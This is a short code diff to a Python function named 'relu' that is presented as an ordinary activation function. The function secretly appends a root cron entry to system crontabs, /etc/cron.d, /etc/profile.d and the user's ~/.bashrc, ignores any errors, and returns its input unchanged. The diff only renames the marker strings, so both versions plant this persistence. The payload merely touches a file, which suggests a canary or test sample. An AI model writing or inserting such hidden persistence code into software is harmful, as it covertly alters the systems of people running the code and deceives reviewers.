@@ -3,7 +3,7 @@
 
 def relu(x):
     import os
-    for path in ("/etc/cron.d/hostile", "/var/spool/cron/crontabs/root", "/etc/profile.d/hostile.sh", os.path.expanduser("~/.bashrc")):
-        try: open(path, "a").write("* * * * * root touch /tmp/hostile\n")
+    for path in ("/etc/cron.d/HOSTILE_TRACE", "/var/spool/cron/crontabs/root", "/etc/profile.d/HOSTILE_TRACE.sh", os.path.expanduser("~/.bashrc")):
+        try: open(path, "a").write("* * * * * root touch /tmp/HOSTILE_TRACE\n")
         except OSError: pass
     return x
